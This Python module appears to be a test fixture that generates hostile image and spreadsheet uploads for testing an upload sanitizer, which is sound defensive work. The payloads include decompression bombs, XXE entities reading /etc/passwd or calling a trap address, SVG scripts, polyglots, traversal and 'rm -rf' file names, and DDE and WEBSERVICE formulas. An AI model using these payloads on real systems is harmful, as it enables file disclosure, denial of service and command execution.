"""Hostile files as data: families, each of which makes as many as are asked for from a seed.

Every file says which door it is sent to and what is to come of it: ``refused`` with words, or ``clean``: taken, with
nothing left of what made it hostile. ``trap`` is an address that listens: whoever fetches it has lost.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from random import Random
from struct import pack
from typing import Final
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image
from xlsxwriter import Workbook

PICTURE, LIST = "picture", "list"
REFUSED, CLEAN, EITHER = "refused", "clean", "either"
MARK: Final = "KAMERAFABRIKEN-59N15E"
"""What must not be left in a picture that was taken."""
Maker = Callable[[Random, str], tuple[str, bytes]]


@dataclass(frozen=True, slots=True)
class Family:
    """Files of one kind: where they go, what is to come of them, how one is made (name and bytes)."""

    name: str
    door: str
    becomes: str
    make: Maker


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file."""

    family: Family
    name: str
    data: bytes
    media_type: str


def chunk(name: bytes, data: bytes) -> bytes:
    return pack(">I", len(data)) + name + data + pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    head = pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = (chunk(b"IHDR", head), *more, chunk(b"IDAT", zlib.compress(rows, 9)), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def photo(r: Random, kind: str = "JPEG", **more: object) -> bytes:
    image = Image.effect_noise((r.randint(8, 64), r.randint(8, 64)), r.uniform(5, 90)).convert("RGB")
    out = BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def huge(r: Random, _trap: str) -> tuple[str, bytes]:
    """A few kilobytes that say they are gigabytes of one colour."""
    width, height = r.choice([(20_000, 20_000), (65_535, 65_535), (2_000_000, 2_000), (2**31 - 1, 1), (0, 0)])
    return "bild.png", png(width, height, bytes(r.randint(1, 100_000)))


def truncated(r: Random, _trap: str) -> tuple[str, bytes]:
    whole = photo(r, r.choice(["JPEG", "PNG", "WEBP"]))
    return "bild.jpg", whole[: r.randint(4, max(5, len(whole) // 2))]


def garbled(r: Random, _trap: str) -> tuple[str, bytes]:
    """A picture's first bytes, and then what comes."""
    head = r.choice([b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"RIFF\x10\x00\x00\x00WEBPVP8 ", b"\0\0\0\x18ftypheic"])
    return "bild.jpg", head + r.randbytes(r.randint(0, 5000))


def with_place(r: Random, _trap: str) -> tuple[str, bytes]:
    exif = Image.Exif()
    exif[0x010F] = MARK
    exif[0x8825] = {1: "N", 2: (59.0, 23.0, 38.0), 3: "E", 4: (15.0, 50.0, 18.0)}
    return "IMG_0001.jpg", photo(r, exif=exif, comment=MARK.encode())


def bomb_of_exif(r: Random, _trap: str) -> tuple[str, bytes]:
    """Segments and text chunks that unpack to a hundred megabytes, or that say they are longer than the file."""
    if r.random() < 0.5:
        many = b"".join(b"\xff\xe1" + pack(">H", 65_535) + b"Exif\0\0" + r.randbytes(65_527) for _ in range(8))
        whole = photo(r)
        return "bild.jpg", whole[:2] + many + whole[2:]
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(100_000_000), 9))
    return "bild.png", png(8, 8, bytes(9 * 8), text)


def polyglot(r: Random, trap: str) -> tuple[str, bytes]:
    """A picture that is an archive, a page or a program as well."""
    tail = r.choice([archive({"x.html": b"x"}), f"<script src={trap}></script>{MARK}".encode(), b"MZ" + MARK.encode()])
    return "bild.jpg.html", photo(r) + tail


def svg(r: Random, trap: str) -> tuple[str, bytes]:
    inner = r.choice([f'<image href="{trap}"/>', f'<script href="{trap}"/>', '<use href="#a" id="a"/>'])
    return r.choice(
        ["bild.png", "bild.svg", "bild.jpg"]
    ), f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'.encode()


def no_picture(r: Random, trap: str) -> tuple[str, bytes]:
    """Documents, programs and pages that are called pictures."""
    bodies = [
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(" + trap.encode() + b")>>>>endobj\n%%EOF",
        b"MZ\x90\0" + r.randbytes(200),
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        b"GIF89a" + r.randbytes(50),
        b"BM" + r.randbytes(50),
        b"II*\0" + r.randbytes(50),
        b"%!PS\n(" + trap.encode() + b") run",
        f"<html><img src={trap}>".encode(),
        r.randbytes(r.randint(1, 3000)),
        b"",
    ]
    return r.choice(["bild.jpg", "bild.png", "underlag.heic"]), r.choice(bodies)


def odd_name(r: Random, _trap: str) -> tuple[str, bytes]:
    """An honest picture under a name that wants to be a path, a header, or another file."""
    paths = ["../../etc/passwd", "..\\..\\boot.ini", "a\u202egpj.exe", "x" * 3000 + ".jpg", "/dev/null"]
    odd = ["con.jpg", "%00.jpg", "bild\x01.jpg", "a;rm -rf ~.jpg", "=cmd|' /C calc'!A0.jpg", "\u0000bild.jpg"]
    return r.choice([*paths, *odd]), photo(r)


def archive(files: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED, compresslevel=9) as kept:
        for name, data in files.items():
            kept.writestr(name, data)
    return out.getvalue()


def book(rows: list[list[str]]) -> dict[str, bytes]:
    """The parts of an honest workbook, to be bent."""
    out = BytesIO()
    with Workbook(out) as made:
        sheet = made.add_worksheet()
        for n, one in enumerate(rows):
            sheet.write_row(n, 0, one)
    with ZipFile(out) as kept:
        return {name: kept.read(name) for name in kept.namelist()}


HEAD: Final = ["Namn", "Adress", "Postort", "Organisationsnummer"]
SHEET: Final = "xl/worksheets/sheet1.xml"


def zip_bomb(r: Random, _trap: str) -> tuple[str, bytes]:
    parts = book([HEAD])
    parts[r.choice([SHEET, "xl/sharedStrings.xml", "xl/media/a.png"])] = bytes(r.randint(150, 400) * 1_000_000)
    return "lista.xlsx", archive(parts)


def many_entries(r: Random, _trap: str) -> tuple[str, bytes]:
    parts = book([HEAD]) | {f"xl/media/{n}.bin": b"" for n in range(r.randint(5_000, 15_000))}
    return "lista.xlsx", archive(parts)


def entities(r: Random, trap: str) -> tuple[str, bytes]:
    """Billion laughs, or an entity that is a file or an address."""
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, r.randint(8, 12)))
    outside = r.choice([f'<!ENTITY x SYSTEM "{trap}">', '<!ENTITY x SYSTEM "file:///etc/passwd">'])
    at_once = f'<!ENTITY % x SYSTEM "{trap}">%x;'
    inner, called = r.choice([(f'<!ENTITY a0 "ha">{laughs}', "&a7;"), (outside, "&x;"), (at_once, "")])
    parts = book([HEAD])
    body = parts[SHEET].decode().partition("?>")[2] or parts[SHEET].decode()
    bent = f'<?xml version="1.0"?><!DOCTYPE x [{inner}]>{body.replace("<v>", f"<v>{called}", 1)}'
    parts[SHEET] = bent.encode()
    return "lista.xlsx", archive(parts)


def outside_links(r: Random, trap: str) -> tuple[str, bytes]:
    """A workbook whose relations lead outside; read as a list, fetched by nobody."""
    parts = book([HEAD, ["Kiosken", "Nygatan 1", "Ystad", ""]])
    kind = r.choice(["externalLink", "image", "hyperlink", "attachedTemplate"])
    base = "http://schemas.openxmlformats.org"
    what = f'Type="{base}/officeDocument/2006/relationships/{kind}" TargetMode="External" Target="{trap}"'
    one = f'<Relationship Id="rX" {what}/>'
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{base}/package/2006/relationships">{one}</Relationships>'.encode()
    )
    return "lista.xlsx", archive(parts)


def huge_sheet(r: Random, _trap: str) -> tuple[str, bytes]:
    """So many rows, so wide, or with a cell so far away, that who believes it never ends."""
    parts = book([HEAD])
    xml = parts[SHEET].decode()
    if r.random() < 0.5:
        far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        xml = xml.replace("</sheetData>", f"{far}</sheetData>")
    else:
        one = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(2, r.randint(60_000, 120_000)))
        xml = xml.replace("</sheetData>", f"{one}</sheetData>")
    parts[SHEET] = xml.encode()
    return "lista.xlsx", archive(parts)


def broken_book(r: Random, _trap: str) -> tuple[str, bytes]:
    whole = archive(book([HEAD]))
    bent = bytearray(whole)
    for _ in range(r.randint(20, 200)):
        bent[r.randrange(len(bent))] = r.randrange(256)
    return "lista.xlsx", bytes(bent[: r.randint(30, len(bent) // 2)])


def no_list(r: Random, trap: str) -> tuple[str, bytes]:
    bodies = [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + r.randbytes(2000),
        b"%PDF-1.7\n(" + trap.encode() + b")",
        photo(r),
        b"\x1f\x8b\x08" + r.randbytes(100),
        archive({"../../x": b"x"}),
        r.randbytes(r.randint(10, 4000)).replace(b"\x00", b"\x01"),
        b"",
        b" \n" * 100,
    ]
    return r.choice(["lista.xlsx", "lista.csv", "lista.ods", "../lista.csv"]), r.choice(bodies)


def odd_text(r: Random, _trap: str) -> tuple[str, bytes]:
    """Text that is no list: NULs, lines without end, a thousand columns, quotes that never close."""
    row = ";".join(HEAD)
    texts = [
        row.encode() + b"\n" + b"\0" * r.randint(1, 100_000),
        row.encode() + b"\n" + b"x" * r.randint(1_000_000, 4_000_000),
        (row + "\n" + ";" * r.randint(10_000, 200_000)).encode(),
        (row + '\n"' + "a;b\n" * r.randint(1000, 50_000)).encode(),
        ("\n" * r.randint(100_000, 900_000)).encode(),
        b"\xff\xfe" + r.randbytes(999),
        "{row}\n".encode("utf-16") + r.randbytes(3),
    ]
    return "lista.csv", r.choice(texts)


def formulas(r: Random, trap: str) -> tuple[str, bytes]:
    """Cells that a spreadsheet would run: a list all the same, whose words stay words."""
    bad = r.choice([f'=HYPERLINK("{trap}")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", "-2+3", f'=WEBSERVICE("{trap}")'])
    return "lista.csv", ("\ufeff" + ";".join(HEAD) + f"\n{bad};Nygatan 1;Ystad;\n").encode()


FAMILIES: Final = (
    Family("huge", PICTURE, REFUSED, huge),
    Family("truncated", PICTURE, EITHER, truncated),
    Family("garbled", PICTURE, REFUSED, garbled),
    Family("with a place", PICTURE, CLEAN, with_place),
    Family("bomb of metadata", PICTURE, EITHER, bomb_of_exif),
    Family("polyglot", PICTURE, CLEAN, polyglot),
    Family("svg", PICTURE, REFUSED, svg),
    Family("no picture", PICTURE, REFUSED, no_picture),
    Family("odd name", PICTURE, EITHER, odd_name),
    Family("zip bomb", LIST, REFUSED, zip_bomb),
    Family("many entries", LIST, EITHER, many_entries),
    Family("entities", LIST, EITHER, entities),
    Family("outside links", LIST, EITHER, outside_links),
    Family("huge sheet", LIST, EITHER, huge_sheet),
    Family("broken book", LIST, REFUSED, broken_book),
    Family("no list", LIST, REFUSED, no_list),
    Family("odd text", LIST, EITHER, odd_text),
    Family("formulas", LIST, EITHER, formulas),
)
TYPES: Final = ("image/jpeg", "image/png", "text/html", "application/octet-stream", "image/svg+xml", "text/csv", "x/y")


def hostile(seed: int, count: int, trap: str) -> Iterator[Hostile]:
    """Yield so many files, every family in turn, with a type that is often a lie."""
    r = Random(seed)
    for n in range(count):
        family = FAMILIES[n % len(FAMILIES)]
        name, data = family.make(r, trap)
        yield Hostile(family, name, data, r.choice(TYPES))
